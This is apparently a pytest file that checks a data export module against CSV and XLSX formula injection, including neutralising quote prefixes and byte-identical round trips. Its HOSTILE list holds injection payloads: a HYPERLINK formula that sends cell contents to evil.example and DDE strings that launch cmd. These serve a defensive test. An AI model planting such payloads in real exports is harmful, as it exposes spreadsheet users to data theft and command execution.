"""Exports never hand a spreadsheet a formula to run (OWASP CSV injection): text beginning with = + - @ tab or
CR is written with a leading quote in CSV and XLSX, numbers stay numbers, and export -> import -> export stays
byte-identical because the importer removes exactly the quote the export added."""

from __future__ import annotations

import io
import itertools

import pytest
from openpyxl import load_workbook

from data.core import loaders
from data.imports import export, formulas, intake
from tests.imports.test_export import TODAY

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1 (tab first)", "\r=1+1 (CR first)",
           "'=quoted already", "''two quotes", "-", "- see note"]
TRIGGERS = tuple("=+-@\t\r")


def test_neutralise_and_restore_are_exact_inverses():
    alphabet = ["", "'", "=", "+", "-", "@", "\t", "\r", "a", "1", ".", "%", ","]
    for n in range(1, 5):
        for parts in itertools.product(alphabet, repeat=n):
            text = "".join(parts)
            out = formulas.neutralise(text)
            assert formulas.restore(out) == text, repr(text)
            assert not out.startswith(TRIGGERS) or formulas._NUMBER.match(out), repr(text)


@pytest.mark.parametrize("number", ["-3.5", "+1,234.5", "-12%", "-.5", "-1e-05", "12"])
def test_text_that_is_a_plain_number_is_left_alone(number):
    assert formulas.neutralise(number) == number and formulas.neutralise(-3.5) == -3.5


def hostile_council(demo_engine) -> dict:
    """One directorate of the demo, exported, with hostile text in titles, owners, descriptions and commentary."""
    with demo_engine.connect() as conn:
        slug = loaders.directorates(conn)["slug"].iloc[0]
        data = export.tables(conn, directorate=slug)
    heads = {name: rows[0] for name, rows in data.items()}
    title, description, owner = (heads["measures"].index(c) for c in ("title", "description", "owner"))
    comment = heads["values"].index("commentary")
    for i, row in enumerate(data["measures"][1:]):
        row[title] = HOSTILE[i % len(HOSTILE)] + f" {i}"
        row[description] = HOSTILE[(i + 1) % len(HOSTILE)]
        row[owner] = HOSTILE[(i + 2) % len(HOSTILE)]
    for i, row in enumerate(data["values"][1:40]):
        row[comment] = HOSTILE[i % len(HOSTILE)]
    return data


def cells_starting_with_a_trigger(rows) -> list:
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(TRIGGERS)
            and not formulas._NUMBER.match(c)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_text_is_neutralised_and_the_round_trip_is_byte_identical(demo_engine, engine, tmp_path, fmt):
    import csv
    hostile = hostile_council(demo_engine)
    intake.import_file(engine, export.write_csv_folder(hostile, tmp_path / "hostile"), today=TODAY)
    with engine.connect() as conn:
        stored = export.tables(conn)
    assert any(str(r[1]).startswith("=HYPERLINK") for r in stored["measures"][1:])   # kept as typed
    if fmt == "csv":
        files = export.csv_files(stored)
        sheets = {name: list(csv.reader(io.StringIO(content.decode(), newline="")))
                  for name, content in files.items()}
    else:
        files = export.xlsx_bytes(stored)
        book = load_workbook(io.BytesIO(files))
        sheets = {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}
        assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    every = [row for rows in sheets.values() for row in rows]
    assert cells_starting_with_a_trigger(every) == []
    assert sum(1 for row in every for c in row if isinstance(c, str) and c.startswith("'")) >= 17
    negative = [row[2] for row in sheets["values.csv" if fmt == "csv" else "values"][1:]
                if str(row[2]).startswith("-") and str(row[2]) != "-"]
    if fmt == "xlsx":
        assert all(isinstance(v, (int, float)) for v in negative)        # numbers stay number cells
    # and back: import the export into another empty database, export again: the same bytes
    from tests.conftest import make_database
    other, cleanup = make_database("sqlite", tmp_path)
    try:
        if fmt == "csv":
            folder = tmp_path / "exported"
            folder.mkdir()
            for name, content in files.items():
                (folder / name).write_bytes(content)
            intake.import_file(other, folder, today=TODAY)
            with other.connect() as conn:
                assert export.csv_files(export.tables(conn)) == files
        else:
            intake.import_file(other, files, "hostile.xlsx", today=TODAY)
            with other.connect() as conn:
                assert export.xlsx_bytes(export.tables(conn)) == files
        with other.connect() as conn:
            assert export.tables(conn) == stored                            # the text itself, unquoted
    finally:
        cleanup()
